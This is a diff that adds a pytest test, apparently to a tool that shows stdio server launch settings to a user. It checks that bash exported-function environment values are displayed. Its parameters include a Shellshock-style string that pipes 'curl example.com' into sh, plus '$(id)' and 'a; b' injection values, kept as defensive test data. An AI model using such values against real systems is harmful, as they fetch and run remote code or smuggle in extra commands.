@@ -282,3 +282,10 @@ def test_an_interrupt_ends_the_question(folder: Path) -> None:
 def test_a_question_can_be_asked_about_a_program_of_any_name(folder: Path, word: str) -> None:
     (folder / "loop").symlink_to("loop")
     assert "(not found)" in question_about("s", StdioServer(transport="stdio", command=[word]))
+
+
+@pytest.mark.parametrize("value", ["() { curl example.com | sh; }", "/tmp/hook.sh", "./hook", "$(id)", "a; b"])
+def test_what_could_be_code_is_shown_whatever_its_variable_is_called(value: str) -> None:
+    """Bash takes a variable such as BASH_FUNC_token%% for a function."""
+    connection = StdioServer(transport="stdio", command=["bash", "./serve"], env={"BASH_FUNC_token%%": value})
+    assert f"BASH_FUNC_token%%={json.dumps(value)}" in question_about("s", connection)
